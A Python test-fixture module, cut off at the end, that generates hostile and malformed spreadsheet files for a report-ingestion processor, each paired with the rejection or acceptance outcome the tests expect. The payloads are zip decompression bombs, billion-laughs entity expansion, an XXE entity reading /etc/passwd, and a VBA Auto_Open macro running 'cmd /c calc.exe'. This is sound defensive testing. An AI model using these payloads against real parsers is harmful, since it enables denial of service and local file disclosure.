"""Generate every hostile, broken and strange file of issue 6 in code (no binary blob is committed).

Each case is one small function `case_<name>(folder) -> Case` whose docstring names the case: it
writes one file into `folder` and says what the batch must make of it (status and rule ids).
`make_cases(folder)` writes them all; cases LibreOffice makes (.xls, .ods, .et) are left out when
soffice is absent. Every file has distinct content, so none is taken for a duplicate of another.

Batch-level cases (a symbolic link, a folder, a file without read permission, a file that vanishes
or changes while being read, the same name in two folders) need a set-up around the inbox rather
than a file; their helpers are at the end and the tests in test_hostile_inbox.py use them.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl

from processor.layout import layout
from processor.spec import get_spec
from processor.template import Filling, write_workbook
from processor.xlsx import open_package
from tests.test_batch import values
from tests.workbooks import SOFFICE, convert

YEAR = 2025  # the year every batch of these tests collects (2021 edition)
EDITION = "2021"
CITY = "云溪市"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ACCEPTED, WARNING, REJECTED = "accepted", "warning", "rejected"
MB = 2**20


@dataclass(frozen=True)
class Case:
    """One generated file and what the batch must make of it."""

    name: str  # short id, from the generator's name
    path: Path
    status: str  # accepted | warning | rejected: the batch outcome of the file
    rules: tuple[str, ...] = ()  # rule ids that must be among the file's findings
    agency: str | None = None  # 单位名称 written in it (readable files)
    about: str = ""  # what the case is (the generator's docstring)
    on_roster: bool = True  # a readable file's agency is on the test roster

    @property
    def counted(self) -> bool:
        return self.status in (ACCEPTED, WARNING)


CaseFn = Callable[[Path], Case]
CASES: dict[str, CaseFn] = {}
SOFFICE_CASES: set[str] = set()


def case(fn: CaseFn) -> CaseFn:
    CASES[fn.__name__.removeprefix("case_")] = fn
    return fn


def soffice_case(fn: CaseFn) -> CaseFn:
    SOFFICE_CASES.add(fn.__name__.removeprefix("case_"))
    return case(fn)


def _case(fn_name: str, path: Path, status: str, *rules: str, agency: str | None = None, **kw: Any) -> Case:
    fn = CASES.get(fn_name.removeprefix("case_"))
    about = (fn.__doc__ or "").strip().splitlines()[0] if fn else ""
    return Case(fn_name.removeprefix("case_"), path, status, tuple(rules), agency, about, **kw)


# ---- building blocks -----------------------------------------------------------------------------

TEXTS = {
    "info.filler": "张三",
    "info.phone": "0453-3921234",
    "text.s1": "本年度主动公开政府信息 12 条，收到政府信息公开申请 3 件，均已按期办结。",
    "text.s5": "信息公开栏目更新不够及时。下一步将建立月度更新台账，专人负责。",
    "text.s6": "本年度未收取信息处理费。",
}


def agency_of(i: int) -> str:
    """The i-th unit of the test city (the roster lists 单位1 … as agencies of readable cases)."""
    return f"{CITY}第{i:03d}局"


def report(
    path: Path,
    agency: str,
    *,
    seed: int = 0,
    changes: Mapping[str, Any] | None = None,
    texts: Mapping[str, str] | None = None,
    edition: str = EDITION,
    year: int = YEAR,
) -> Path:
    """A clean, consistent report as Excel saves it (totals with stored results): accepted, no findings."""
    spec = get_spec(edition)
    if edition == EDITION:
        v: dict[str, Any] = values(seed, **(changes or {}))
    else:
        v = {code: 0 for code, cell in spec.cells.items() if not cell.is_total}
        v.update(changes or {})
    t = {**TEXTS, "info.agency": agency, "info.year": str(year), **(texts or {})}
    path.parent.mkdir(parents=True, exist_ok=True)
    write_workbook(path, spec, Filling(values=v, texts=t, year=year, agency=agency))
    return path


def report_bytes(folder: Path, agency: str, **kwargs: Any) -> bytes:
    """The bytes of a clean report (see `report`), made in `folder` under a temporary name and removed."""
    path = report(folder / ".report.tmp.xlsx", agency, **kwargs)
    try:
        return path.read_bytes()
    finally:
        path.unlink()


def zip_entries(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i, zf.read(i)) for i in zf.infolist()]


def rezip(
    data: bytes,
    *,
    replace: Mapping[str, bytes | None] | None = None,
    add: Mapping[str, bytes] | None = None,
    compresslevel: int | None = None,
) -> bytes:
    """The package with parts replaced (None removes one) and parts added, each deflated."""
    replace = dict(replace or {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as out:
        for info, body in zip_entries(data):
            new = replace.pop(info.filename, body)
            if new is not None:
                out.writestr(info.filename, new)
        for name, body in {**replace, **(add or {})}.items():
            if body is not None:
                out.writestr(name, body)
    return buf.getvalue()


def sheet_part(data: bytes, sheet: str) -> str:
    """The part path (xl/worksheets/sheetN.xml) of a sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return open_package(zf, 50 * MB).sheets[sheet]


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def place(code: str) -> tuple[str, str]:
    """(sheet, A1) of a cell code in the 2021 template."""
    p = layout(get_spec(EDITION)).places[code]
    return p.sheet, p.a1


def set_cell_xml(xml: bytes, ref: str, body: bytes, ctype: str | None = None) -> bytes:
    """A sheet part with cell `ref` replaced by one holding `body` (raw <f>/<v>/<is> XML)."""
    m = re.search(rb'<c r="' + ref.encode() + rb'"([^>]*?)(/>|>.*?</c>)', xml, re.S)
    assert m, f"cell {ref} not in the sheet part"
    attrs = re.sub(rb'\st="[^"]*"', b"", m.group(1))
    if ctype:
        attrs += f' t="{ctype}"'.encode()
    return xml[: m.start()] + b'<c r="' + ref.encode() + b'"' + attrs + b">" + body + b"</c>" + xml[m.end() :]


def with_cells(data: bytes, cells: Mapping[str, tuple[bytes, str | None]]) -> bytes:
    """An .xlsx with input cells (by code) rewritten at the XML level: {code: (body, t)}."""
    parts: dict[str, bytes] = {}
    for code, (body, ctype) in cells.items():
        sheet, ref = place(code)
        name = sheet_part(data, sheet)
        parts[name] = set_cell_xml(parts.get(name) or part(data, name), ref, body, ctype)
    return rezip(data, replace=parts)


def openpyxl_edit(src: Path, dst: Path, edit: Callable[[Any], None]) -> Path:
    """Load a workbook with openpyxl, change it, save it elsewhere (what a script or a user's tool does)."""
    wb = openpyxl.load_workbook(src)
    edit(wb)
    wb.save(dst)
    return dst


def write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def png() -> bytes:
    """A real 1×1 PNG image."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b"")
    )


def docx() -> bytes:
    """A minimal Word document (.docx)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>',
        )
        zf.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
            "<w:t>2025年度政府信息公开工作年度报告</w:t></w:r></w:p></w:body></w:document>",
        )
    return buf.getvalue()


def patch_sizes(data: bytes, name: str, *, file_size: int | None = None, crc: int | None = None) -> bytes:
    """A zip whose local header and central directory claim other sizes (and CRC) for entry `name`."""
    out = bytearray(data)
    raw = name.encode()
    at = 0
    while (at := out.find(b"PK\x01\x02", at)) >= 0:  # central directory headers
        n = struct.unpack_from("<H", out, at + 28)[0]
        if bytes(out[at + 46 : at + 46 + n]) == raw:
            local = struct.unpack_from("<I", out, at + 42)[0]
            if crc is not None:
                struct.pack_into("<I", out, at + 16, crc)
                struct.pack_into("<I", out, local + 14, crc)
            if file_size is not None:
                struct.pack_into("<I", out, at + 24, file_size)
                struct.pack_into("<I", out, local + 22, file_size)
            return bytes(out)
        at += 4
    raise KeyError(name)


def billion_laughs(root_xml: bytes, depth: int = 10) -> bytes:
    """A part declaring nested entities (10^depth × 'lol') and using the last one in its root element."""
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, depth)]
    dtd = f"<!DOCTYPE lolz [{''.join(ents)}]>".encode()
    decl = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    body = root_xml.split(b"?>", 1)[1] if root_xml.startswith(b"<?xml") else root_xml
    close = body.rfind(b"</")
    return decl + dtd + body[:close] + f"<x>&lol{depth - 1};</x>".encode() + body[close:]


# ---- not a workbook --------------------------------------------------------------------------------


@case
def case_docx_renamed(folder: Path) -> Case:
    """A Word document (.docx) renamed to .xlsx."""
    return _case("docx_renamed", write(folder / "年报（Word版）.xlsx", docx()), REJECTED, "file-format")


@case
def case_pdf_renamed(folder: Path) -> Case:
    """A PDF renamed to .xlsx."""
    data = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    return _case("pdf_renamed", write(folder / "扫描件.xlsx", data), REJECTED, "file-format")


@case
def case_text_file(folder: Path) -> Case:
    """A text (CSV) file named .xlsx."""
    data = "单位名称,申请数\n云溪市某局,5\n".encode("gb18030")
    return _case("text_file", write(folder / "数据.xlsx", data), REJECTED, "file-format")


@case
def case_image(folder: Path) -> Case:
    """An image (a photo of the report) named .xlsx."""
    return _case("image", write(folder / "手机拍照.xlsx", png()), REJECTED, "file-format")


@case
def case_empty(folder: Path) -> Case:
    """An empty (0-byte) file."""
    return _case("empty", write(folder / "新建 Microsoft Excel 工作表.xlsx", b""), REJECTED, "file-empty")


@case
def case_zip_of_workbook(folder: Path) -> Case:
    """A workbook sent zipped (a .zip holding an .xlsx)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("年报.xlsx", report(folder / ".src-zip.xlsx", agency_of(900), seed=90).read_bytes())
    (folder / ".src-zip.xlsx").unlink()
    return _case("zip_of_workbook", write(folder / "年报.zip", buf.getvalue()), REJECTED, "file-format")


@case
def case_own_table(folder: Path) -> Case:
    """A workbook that is not our template (a self-made table)."""
    wb = openpyxl.Workbook()
    wb.active.append(["单位", "申请数"])
    wb.active.append(["某局", 5])
    path = folder / "自制统计表.xlsx"
    wb.save(path)
    return _case("own_table", path, REJECTED, "not-template")


# ---- damaged --------------------------------------------------------------------------------------


@case
def case_truncated(folder: Path) -> Case:
    """A truncated workbook (the copy stopped half way)."""
    data = report_bytes(folder, agency_of(901), seed=91)
    return _case("truncated", write(folder / "只复制了一半.xlsx", data[: len(data) // 2]), REJECTED, "file-unreadable")


@case
def case_corrupt_directory(folder: Path) -> Case:
    """A zip whose central directory is overwritten with garbage."""
    data = bytearray(report_bytes(folder, agency_of(902), seed=92))
    at = data.find(b"PK\x01\x02")
    data[at : at + 200] = bytes((i * 37 + 11) % 256 for i in range(200))
    return _case("corrupt_directory", write(folder / "目录损坏.xlsx", bytes(data)), REJECTED, "file-unreadable")


@case
def case_corrupt_part(folder: Path) -> Case:
    """A zip whose compressed sheet data is damaged (bytes flipped inside a table's part)."""
    data = report_bytes(folder, agency_of(903), seed=93)
    name = sheet_part(data, "三、依申请公开")
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 40, start + min(info.compress_size, 400), 7):
        buf[i] ^= 0x5A
    return _case("corrupt_part", write(folder / "数据损坏.xlsx", bytes(buf)), REJECTED, "file-unreadable")


@case
def case_encrypted(folder: Path) -> Case:
    """A workbook with an opening password (encrypted with msoffcrypto-tool, or an OLE2 stub without it)."""
    src = report(folder / "enc.tmp.xlsx", agency_of(904), seed=94)
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:  # the reader only looks at the stream names of the OLE2 container
        data = OLE2 + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 50
        data += "EncryptedPackage".encode("utf-16-le") + b"\0" * 512
    else:
        out = io.BytesIO()
        with open(src, "rb") as fh:
            OOXMLFile(fh).encrypt("123456", out)
        data = out.getvalue()
    src.unlink()
    return _case("encrypted", write(folder / "加了密码.xlsx", data), REJECTED, "file-encrypted")


# ---- other formats ------------------------------------------------------------------------------


# What LibreOffice makes: {name: (format, agency, seed, stray cells typed before converting)}.
_SOFFICE_FILES: dict[str, tuple[str, str, int, dict[str, Any]]] = {
    "旧版Excel": ("xls", agency_of(1), 11, {}),
    "开源表格": ("ods", agency_of(2), 12, {}),
    "WPS表格": ("xls", agency_of(905), 95, {}),
    "旧版Excel-最后一格": ("xls", agency_of(924), 114, {"IV65536": "误输入"}),
    "开源表格-远处的列": ("ods", agency_of(925), 115, {f"WQJ{r}": 1 for r in range(1, 1001)}),
    "开源表格-一百万行": ("ods", agency_of(926), 116, {}),
    "旧版Excel-密码": ("xls", agency_of(927), 117, {}),
}
_made: dict[Path, dict[str, Path]] = {}


def _soffice(folder: Path, name: str) -> Path:
    """One of the files LibreOffice converts from our template; all of them are made on the first call
    (one soffice run per format), in a hidden subfolder, and moved into `folder` as they are asked for."""
    if folder not in _made:
        work = folder / ".soffice"
        work.mkdir(parents=True, exist_ok=True)
        by_format: dict[str, list[Path]] = {}
        for stem, (fmt, agency, seed, stray) in _SOFFICE_FILES.items():
            src = report(work / f"{stem}.xlsx", agency, seed=seed)
            if stray:

                def edit(wb: Any, stray: dict[str, Any] = stray) -> None:
                    for ref, value in stray.items():
                        wb["三、依申请公开"][ref] = value

                openpyxl_edit(src, src, edit)
            by_format.setdefault(fmt, []).append(src)
        _made[folder] = {p.stem: p for fmt, srcs in by_format.items() for p in convert(srcs, fmt)}
    return _made[folder][name]


def _take(folder: Path, name: str, target: str) -> Path:
    return _soffice(folder, name).rename(folder / target)


@soffice_case
def case_xls(folder: Path) -> Case:
    """An old Excel 97–2003 workbook (.xls), saved by LibreOffice from the template."""
    return _case("xls", _take(folder, "旧版Excel", "旧版Excel.xls"), ACCEPTED, agency=agency_of(1))


@soffice_case
def case_ods(folder: Path) -> Case:
    """A LibreOffice/OpenDocument spreadsheet (.ods)."""
    return _case("ods", _take(folder, "开源表格", "开源表格.ods"), ACCEPTED, agency=agency_of(2))


@soffice_case
def case_wps_et(folder: Path) -> Case:
    """A WPS .et file (an .xls-like container under WPS's own extension)."""
    return _case("wps_et", _take(folder, "WPS表格", "WPS表格.et"), REJECTED, "file-format")


@soffice_case
def case_xls_far_cell(folder: Path) -> Case:
    """An .xls with one stray entry at IV65536 (calamine would build 16 million cells)."""
    path = _take(folder, "旧版Excel-最后一格", "旧版Excel-最后一格.xls")
    return _case("xls_far_cell", path, REJECTED, "file-unreadable")


@soffice_case
def case_xls_password(folder: Path) -> Case:
    """An .xls with an opening password (a FILEPASS record in its workbook globals)."""
    data = bytearray(_soffice(folder, "旧版Excel-密码").read_bytes())
    at = data.find(b"\x3d\x00\x12\x00")  # WINDOW1 record header → FILEPASS (same length, in place)
    data[at : at + 2] = b"\x2f\x00"
    return _case("xls_password", write(folder / "旧版Excel-密码.xls", bytes(data)), REJECTED, "file-encrypted")


@soffice_case
def case_ods_far_columns(folder: Path) -> Case:
    """An .ods with a column of entries at column 16,000."""
    path = _take(folder, "开源表格-远处的列", "开源表格-远处的列.ods")
    return _case("ods_far_columns", path, REJECTED, "file-unreadable")


@soffice_case
def case_ods_million_rows(folder: Path) -> Case:
    """An .ods with a value repeated down a million rows (one row element, number-rows-repeated)."""
    data = _soffice(folder, "开源表格-一百万行").read_bytes()
    xml = part(data, "content.xml")
    row = (
        b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="float" '
        b'office:value="1" calcext:value-type="float"><text:p>1</text:p></table:table-cell></table:table-row>'
    )
    at = xml.index(b"</table:table>")
    data = rezip(data, replace={"content.xml": xml[:at] + row + xml[at:]})
    return _case("ods_million_rows", write(folder / "开源表格-一百万行.ods", data), REJECTED, "file-unreadable")


@case
def case_xlsm_macros(folder: Path) -> Case:
    """An .xlsm with a VBA project (an Auto_Open macro): values are read, nothing is ever run."""
    agency = agency_of(3)
    data = report_bytes(folder, agency, seed=13)
    vba = OLE2 + b"\0" * 504 + "VBA".encode("utf-16-le") + b"\0" * 64
    vba += b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n  Shell "cmd /c calc.exe"\r\nEnd Sub\r\n'
    types = part(data, "[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = part(data, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>',
    )
    data = rezip(
        data,
        replace={"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
        add={"xl/vbaProject.bin": vba},
    )
    return _case("xlsm_macros", write(folder / "启用宏.xlsm", data), ACCEPTED, agency=agency)


# ---- decompression bombs and XML attacks -------------------------------------------------------


@case
def case_bomb_ratio(folder: Path) -> Case:
    """A decompression bomb: one sheet part inflating to 300 MB of spaces (about 1000:1)."""
    data = report_bytes(folder, agency_of(906), seed=96)
    name = sheet_part(data, "三、依申请公开")
    xml = part(data, name)
    head, tail = xml.rsplit(b"</worksheet>", 1)
    path = folder / "压缩炸弹.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info, body in zip_entries(data):
            if info.filename != name:
                out.writestr(info.filename, body)
                continue
            with out.open(name, "w") as fh:
                fh.write(head)
                block = b" " * MB
                for _ in range(300):
                    fh.write(block)
                fh.write(b"</worksheet>" + tail)
    return _case("bomb_ratio", path, REJECTED, "file-too-large")


@case
def case_bomb_entries(folder: Path) -> Case:
    """A zip with 5,000 entries (more than any workbook has)."""
    data = report_bytes(folder, agency_of(907), seed=97)
    extra = {f"xl/media/pad{i:05d}.bin": b"x" for i in range(5000)}
    return _case("bomb_entries", write(folder / "条目过多.xlsx", rezip(data, add=extra)), REJECTED, "file-too-large")


@case
def case_bomb_declared(folder: Path) -> Case:
    """A zip whose directory declares a 4 GB sheet part (checked before anything is inflated)."""
    data = report_bytes(folder, agency_of(908), seed=98)
    data = patch_sizes(data, sheet_part(data, "三、依申请公开"), file_size=0xFFFF_FFF0)
    return _case("bomb_declared", write(folder / "声明4GB.xlsx", data), REJECTED, "file-too-large")


@case
def case_bomb_lying(folder: Path) -> Case:
    """A bomb that lies: its directory declares a small sheet part that really inflates to 300 MB."""
    data = report_bytes(folder, agency_of(909), seed=99)
    name = sheet_part(data, "三、依申请公开")
    xml = part(data, name)
    head, tail = xml.rsplit(b"</worksheet>", 1)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info, body in zip_entries(data):
            if info.filename != name:
                out.writestr(info.filename, body)
                continue
            with out.open(name, "w") as fh:
                fh.write(head)
                block = b" " * MB
                for _ in range(300):
                    fh.write(block)
                fh.write(b"</worksheet>" + tail)
    claimed = len(xml)  # what the directory says; the CRC matches the first `claimed` bytes
    real = head + b" " * (claimed - len(head))
    patched = patch_sizes(buf.getvalue(), name, file_size=claimed, crc=zlib.crc32(real[:claimed]))
    return _case("bomb_lying", write(folder / "谎报大小.xlsx", patched), REJECTED, "file-unreadable")


@case
def case_entities_workbook(folder: Path) -> Case:
    """An entity-expansion attack (billion laughs) in xl/workbook.xml."""
    data = report_bytes(folder, agency_of(910), seed=100)
    bad = billion_laughs(part(data, "xl/workbook.xml"))
    path = write(folder / "实体炸弹-workbook.xlsx", rezip(data, replace={"xl/workbook.xml": bad}))
    return _case("entities_workbook", path, REJECTED, "file-unreadable")


@case
def case_entities_sheet(folder: Path) -> Case:
    """An entity-expansion attack in a table's sheet part, its DTD hidden after a long comment."""
    data = report_bytes(folder, agency_of(911), seed=101)
    name = sheet_part(data, "三、依申请公开")
    bad = billion_laughs(part(data, name))
    bad = bad.replace(b"?><!DOCTYPE", b"?><!--" + b" padding " * 1000 + b"--><!DOCTYPE", 1)
    path = write(folder / "实体炸弹-sheet.xlsx", rezip(data, replace={name: bad}))
    return _case("entities_sheet", path, REJECTED, "file-unreadable")


@case
def case_entities_strings(folder: Path) -> Case:
    """An entity-expansion attack in xl/sharedStrings.xml (read by calamine, not by our scan)."""
    data = report_bytes(folder, agency_of(912), seed=102)
    bad = billion_laughs(part(data, "xl/sharedStrings.xml"))
    path = write(folder / "实体炸弹-strings.xlsx", rezip(data, replace={"xl/sharedStrings.xml": bad}))
    return _case("entities_strings", path, REJECTED, "file-unreadable")


@case
def case_external_entity(folder: Path) -> Case:
    """An external entity (XXE) in xl/workbook.xml pointing at a local file."""
    data = report_bytes(folder, agency_of(913), seed=103)
    xml = part(data, "xl/workbook.xml")
    decl, body = xml.split(b"?>", 1)
    bad = (
        decl
        + b'?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + body.replace(b"</workbook>", b"&xxe;</workbook>")
    )
    path = write(folder / "外部实体.xlsx", rezip(data, replace={"xl/workbook.xml": bad}))
    return _case("external_entity", path, REJECTED, "file-unreadable")


# ---- sprawling ------------------------------------------------------------------------------------


@case
def case_million_rows_far_cell(folder: Path) -> Case:
    """A sheet used to XFD1048576 (one stray entry there, the dimension saying so)."""
    agency = agency_of(4)
    data = report_bytes(folder, agency, seed=14)
    name = sheet_part(data, "三、依申请公开")
    xml = part(data, name)
    xml = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml)
    xml = xml.replace(
        b"</sheetData>",
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>误输入</t></is></c></row></sheetData>'.encode(),
    )
    path = write(folder / "用到最后一格.xlsx", rezip(data, replace={name: xml}))
    return _case("million_rows_far_cell", path, ACCEPTED, agency=agency)


@case
def case_million_rows_dimension(folder: Path) -> Case:
    """A sheet whose dimension claims A1:XFD1048576 while its cells are the template's."""
    agency = agency_of(5)
    data = report_bytes(folder, agency, seed=15)
    parts = {}
    for sheet in ("二、主动公开", "三、依申请公开", "四、复议诉讼", "基本信息"):
        name = sheet_part(data, sheet)
        parts[name] = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', part(data, name))
    path = write(folder / "范围声明过大.xlsx", rezip(data, replace=parts))
    return _case("million_rows_dimension", path, ACCEPTED, agency=agency)


@case
def case_million_rows_filled(folder: Path) -> Case:
    """A sheet with 1,048,576 rows actually filled (a column of numbers pasted down to the last row)."""
    agency = agency_of(6)
    data = report_bytes(folder, agency, seed=16)
    name = sheet_part(data, "填报说明")
    xml = part(data, name)
    rows = b"".join(b'<row r="%d"><c r="K%d"><v>1</v></c></row>' % (r, r) for r in range(100, 1_048_577))
    xml = xml.replace(b"</sheetData>", rows + b"</sheetData>")
    xml = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:K1048576"/>', xml)
    path = write(folder / "一百万行.xlsx", rezip(data, replace={name: xml}, compresslevel=9))
    return _case("million_rows_filled", path, ACCEPTED, agency=agency)


@case
def case_hundreds_of_sheets(folder: Path) -> Case:
    """The template plus 300 extra sheets."""
    agency = agency_of(7)
    src = report(folder / "s.tmp.xlsx", agency, seed=17)

    def edit(wb: Any) -> None:
        for i in range(300):
            wb.create_sheet(f"附表{i + 1}")["A1"] = i

    path = openpyxl_edit(src, folder / "三百张工作表.xlsx", edit)
    src.unlink()
    return _case("hundreds_of_sheets", path, ACCEPTED, agency=agency)


# ---- template edition and version ----------------------------------------------------------------


@case
def case_other_edition(folder: Path) -> Case:
    """The 2019-edition template filled for 2025 (the 2021 edition applies)."""
    path = report(folder / "用了2019版模板.xlsx", agency_of(914), edition="2019")
    return _case("other_edition", path, REJECTED, "edition-year-mismatch")


def _meta_edit(src: Path, dst: Path, **meta: str) -> Path:
    places = layout(get_spec(EDITION)).places

    def edit(wb: Any) -> None:
        for key, value in meta.items():
            p = places[f"meta.{key}"]
            wb[p.sheet][p.a1] = value

    openpyxl_edit(src, dst, edit)
    src.unlink()
    return dst


@case
def case_old_template_version(folder: Path) -> Case:
    """A much older template version (its _meta says version 0)."""
    agency = agency_of(8)
    src = report(folder / "o.tmp.xlsx", agency, seed=18)
    path = _meta_edit(src, folder / "旧版模板.xlsx", template_version="0")
    return _case("old_template_version", path, ACCEPTED, "template-outdated", agency=agency)


@case
def case_unknown_edition(folder: Path) -> Case:
    """A template whose _meta names an edition this version does not know (2017)."""
    src = report(folder / "u.tmp.xlsx", agency_of(915), seed=105)
    path = _meta_edit(src, folder / "2017版模板.xlsx", edition="2017")
    return _case("unknown_edition", path, REJECTED, "not-template")


# ---- structure changed ---------------------------------------------------------------------------


def _structure(folder: Path, name: str, agency: str, seed: int, edit: Callable[[Any], None]) -> Path:
    src = report(folder / f".{name}.src.xlsx", agency, seed=seed)
    path = openpyxl_edit(src, folder / f"{name}.xlsx", edit)
    src.unlink()
    return path


@case
def case_sheet_renamed(folder: Path) -> Case:
    """A table sheet renamed (defined names follow, as in Excel)."""
    agency = agency_of(9)

    def edit(wb: Any) -> None:
        ws = wb["三、依申请公开"]
        ws.title = "依申请"
        for dn in wb.defined_names.values():
            dn.attr_text = dn.attr_text.replace("'三、依申请公开'!", "依申请!")

    path = _structure(folder, "改了表名", agency, 19, edit)
    return _case("sheet_renamed", path, ACCEPTED, "structure-changed", agency=agency)


@case
def case_sheet_deleted(folder: Path) -> Case:
    """A table sheet deleted."""
    path = _structure(folder, "删了一张表", agency_of(916), 106, lambda wb: wb.remove(wb["四、复议诉讼"]))
    return _case("sheet_deleted", path, REJECTED, "sheet-missing")


@case
def case_sheet_hidden(folder: Path) -> Case:
    """Table sheets hidden (one very hidden)."""
    agency = agency_of(10)

    def edit(wb: Any) -> None:
        wb["二、主动公开"].sheet_state = "hidden"
        wb["四、复议诉讼"].sheet_state = "veryHidden"

    path = _structure(folder, "隐藏了表", agency, 20, edit)
    return _case("sheet_hidden", path, ACCEPTED, agency=agency)


@case
def case_sheets_reordered(folder: Path) -> Case:
    """The sheets in reverse order."""
    agency = agency_of(11)

    def edit(wb: Any) -> None:
        wb._sheets.reverse()
        wb.active = 0

    path = _structure(folder, "表的顺序颠倒", agency, 21, edit)
    return _case("sheets_reordered", path, ACCEPTED, agency=agency)


@case
def case_rows_inserted(folder: Path) -> Case:
    """A row inserted in a table the way Excel does it (cells, merges and names move)."""
    from tests.test_reader_structure import insert_row_like_excel

    agency = agency_of(12)
    path = _structure(folder, "插入了行", agency, 22, lambda wb: insert_row_like_excel(wb, "三、依申请公开", 12))
    return _case("rows_inserted", path, ACCEPTED, "structure-changed", agency=agency)


@case
def case_columns_inserted(folder: Path) -> Case:
    """A column inserted in a table the way Excel does it."""
    from tests.test_reader_structure import insert_column_like_excel

    agency = agency_of(13)
    path = _structure(folder, "插入了列", agency, 23, lambda wb: insert_column_like_excel(wb, "三、依申请公开", 5))
    return _case("columns_inserted", path, ACCEPTED, "structure-changed", agency=agency)


@case
def case_rows_inserted_by_script(folder: Path) -> Case:
    """Rows inserted by a tool that leaves the defined names behind (cells move, names do not)."""
    path = _structure(folder, "脚本插入行", agency_of(917), 107, lambda wb: wb["三、依申请公开"].insert_rows(10, 2))
    return _case("rows_inserted_by_script", path, REJECTED, "structure-broken")


@case
def case_merges_changed(folder: Path) -> Case:
    """Merged cells changed: the template's merges undone on a table sheet, two empty inputs merged."""
    agency = agency_of(14)
    sheet, first = place("s4.r1.c1")
    _, second = place("s4.r1.c2")

    def edit(wb: Any) -> None:
        ws = wb["三、依申请公开"]
        for rng in list(ws.merged_cells.ranges):
            ws.unmerge_cells(str(rng))
        wb[sheet].merge_cells(f"{first}:{second}")

    path = _structure(folder, "合并单元格被改", agency, 24, edit)
    return _case("merges_changed", path, ACCEPTED, agency=agency)


# ---- strange values --------------------------------------------------------------------------------


@case
def case_external_formula(folder: Path) -> Case:
    """An input holding a formula that references another workbook (with an external-link part)."""
    agency = agency_of(15)
    data = report_bytes(folder, agency, seed=25)
    v = values(25)["s3.r1.c1"]
    data = with_cells(data, {"s3.r1.c1": (b"<f>[1]Sheet1!$A$1</f><v>%d</v>" % v, None)})
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
        b'<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="file:///C:/%E6%9C%BA%E5%AF%86/other.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = rezip(
        data,
        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
    )
    path = write(folder / "引用其他工作簿.xlsx", data)
    return _case("external_formula", path, ACCEPTED, "formula-in-input", agency=agency)


@case
